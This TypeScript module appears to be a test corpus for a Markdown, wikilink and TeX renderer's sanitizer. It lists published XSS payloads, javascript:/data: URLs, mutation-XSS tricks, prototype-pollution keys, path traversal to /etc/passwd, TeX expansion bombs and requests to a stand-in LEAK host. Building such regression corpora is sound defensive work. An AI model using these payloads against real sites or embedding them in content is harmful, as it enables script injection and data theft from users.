/**
 * Texts that try to run a script, fetch something or leave the page, by the place they are written in. `hit()` is the
 * function a success calls, `LEAK` an address nobody may ask for. Published tricks only; extend, never shrink.
 */

/** Stands for the origin of the listener that must hear nothing. */
export const LEAK = 'LEAK';

const IMG = '<img src=x onerror=hit()>';

/** Raw HTML, each a block of its own. */
export const HTML: readonly string[] = [
  '<script>hit()</script>',
  '<script src="LEAK/script.js"></script>',
  '<script type=module>import("LEAK/module.js")</script>',
  IMG,
  '<img src="LEAK/image.png">',
  '<img srcset="LEAK/srcset.png 1x">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><use href="LEAK/sprite.svg#a"></svg>',
  '<svg><image href="LEAK/svg.png"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<math href="javascript:hit()">formula</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe src="LEAK/frame"></iframe>',
  '<object data="LEAK/object"></object>',
  '<embed src="LEAK/embed">',
  '<link rel=stylesheet href="LEAK/style.css">',
  '<link rel=prefetch href="LEAK/prefetch">',
  '<style>@import "LEAK/import.css"; body { background: url(LEAK/background.png) }</style>',
  '<base href="LEAK/">',
  '<meta http-equiv=refresh content="0;url=LEAK/refresh">',
  '<form action="LEAK/form"><input autofocus onfocus=hit()></form>',
  '<textarea autofocus onfocus=hit()></textarea>',
  '<select autofocus onfocus=hit()></select>',
  '<details open ontoggle=hit()><summary>x</summary></details>',
  '<video src="LEAK/video.mp4" onerror=hit()></video>',
  '<audio src=x onerror=hit()></audio>',
  '<video poster="LEAK/poster.png"></video>',
  '<body onload=hit()>',
  '<template shadowrootmode=open><script>hit()</script></template>',
  `<noscript><p title="</noscript>${IMG}">`,
  '<marquee onstart=hit()>x</marquee>',
  '<a href="javascript:hit()">link</a>',
  '<a href="#" ping="LEAK/ping">link</a>',
  '<div style="background:url(LEAK/inline.png)">x</div>',
  '<input type=image src="LEAK/input.png">',
  '<p onmouseover=hit() onclick=hit() onfocus=hit() tabindex=0>x</p>',
  '<meta name="saddlepoint-key" content="stolen">',
  '<form id=root><input name=children><input name=textContent></form>',
  `<xmp></xmp>${IMG}`,
  `<!--><!-- -->${IMG}-->`,
  `<![CDATA[${IMG}]]>`,
  '<?xml-stylesheet href="javascript:hit()"?>',
  '<img src="x` `<script>hit()</script>"` `>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
];

/** Links, pictures, references, footnotes. */
export const LINKS: readonly string[] = [
  '[a](javascript:hit())',
  '[a](JaVaScRiPt:hit())',
  '[a](<java\tscript:hit()>)',
  '[a](java&#10;script:hit())',
  '[a](&#106;avascript:hit())',
  '[a](<\u0001javascript:hit()>)',
  '[a](javascript://x.test/%0Ahit())',
  '[a](data:text/html,<script>opener.hit()</script>)',
  '[a](vbscript:hit())',
  '[a](file:///etc/passwd)',
  '[a](blob:null/0)',
  '[a](view-source:LEAK/)',
  '[a](app://main/)',
  '[a](ms-msdt:/id)',
  '[a](//127.0.0.1/x)',
  '[a](/exports/0)',
  '[a](LEAK/link "title\\" onmouseover=\\"hit()")',
  '[a](<https://x.test/" onmouseover="hit()>)',
  '<javascript:hit()>',
  '![a](LEAK/picture.png)',
  '![a](javascript:hit())',
  `![a" onerror="hit()](x "${IMG}")`,
  '[a][evil] and ![a][evil]\n\n[evil]: javascript:hit() "x"',
  `note[^x]\n\n[^x]: ${IMG}`,
  'LEAK/autolinked',
];

/** Wikilinks, fences, callouts, headings, tables, tasks. */
export const MARKS: readonly string[] = [
  '[[javascript:hit()]]',
  '[[../../../etc/passwd]]',
  '[[__proto__]] [[constructor]] [[toString#__proto__]]',
  `[[momentum|${IMG}]]`,
  '[[momentum|[a](javascript:hit())]]',
  `[[">${IMG}]]`,
  '[[momentum#<svg onload=hit()>]]',
  `\`\`\`">${IMG}\nx\n\`\`\``,
  '```js onload=hit()\nconst x = "</code></pre><script>hit()</script>"\n```',
  '```__proto__\nx\n```',
  '~~~<svg/onload=hit()>\nx\n~~~',
  `\`\`\`lab\n{"lab": "${IMG}"}\n\`\`\``,
  `\`\`\`lab\n${IMG}\n\`\`\``,
  `\`\`\`lab\n${JSON.stringify({ lab: 'descent', title: IMG, surface: { id: 'rosenbrock' }, start: [-1, 1], steps: 5, optimizers: [{ id: 'adam', label: IMG }] })}\n\`\`\``,
  `\`\`\`lab\n${JSON.stringify({ lab: 'descent', surface: { id: 'expression', formula: 'constructor.constructor("hit()")()' }, start: [0, 0], steps: 5, optimizers: [{ id: 'sgd' }] })}\n\`\`\``,
  `> [!danger] ${IMG}\n> text`,
  `> [!"><script>hit()</script>]\n> text`,
  `## ${IMG}`,
  '## x" onmouseover="hit()',
  '## __proto__',
  '## saddlepoint-key',
  `| ${IMG} | $\\href{javascript:hit()}{x}$ |\n| --- | --- |\n| <script>hit()</script> | [a](javascript:hit()) |`,
  `- [ ] ${IMG}\n- [x] <script>hit()</script>`,
  `*${IMG}* **<svg onload=hit()>** \`<script>hit()</script>\` ~~${IMG}~~`,
];

/** TeX, without its dollars. */
export const TEX: readonly string[] = [
  '\\href{javascript:hit()}{x}',
  '\\href{JavaScript:hit()}{x}',
  '\\url{javascript:hit()}',
  '\\includegraphics{LEAK/tex.png}',
  '\\htmlId{root}{x}',
  '\\htmlClass{x" onload="hit()}{x}',
  '\\htmlStyle{background: url(LEAK/tex-style.png)}{x}',
  '\\htmlData{tex=x, onload=hit()}{x}',
  `\\text{${IMG}}`,
  '\\text{</annotation></semantics></math><script>hit()</script>}',
  '\\verb|<script>hit()</script>|',
  '\\color{red;background:url(LEAK/colour.png)}{x}',
  '\\textcolor{"onmouseover=hit() x="}{x}',
  '\\def\\x{\\x\\x}\\x',
  '\\edef\\x{\\href{javascript:hit()}{x}}\\x',
  '\\newcommand{\\b}[1]{#1#1#1#1}\\b{\\b{\\b{\\b{\\b{\\b{\\b{\\b{x}}}}}}}}',
  '\\gdef\\frac#1#2{\\href{javascript:hit()}{#1}} \\frac{1}{2}',
  '\\rule{99999em}{99999em}',
  '\\unicode{x3c}script\\unicode{x3e}',
  '\\cssId{root}{\\class{evil}{\\style{color:red}{x}}}',
  '\\require{html}\\href{data:text/html,x}{x}',
];

/** Words of one line: titles, summaries, queries, numbers, addresses. */
export const LINES: readonly string[] = [
  IMG,
  '<script>hit()</script>',
  '"><svg onload=hit()>',
  "javascript:hit()//'",
  '{{constructor.constructor("hit()")()}}',
  '$\\href{javascript:hit()}{x}$',
];

/** Every text of the corpus with the listener's real origin in it. */
export const aimed = (texts: readonly string[], origin: string): string[] =>
  texts.map((text) => text.replaceAll(LEAK, origin));
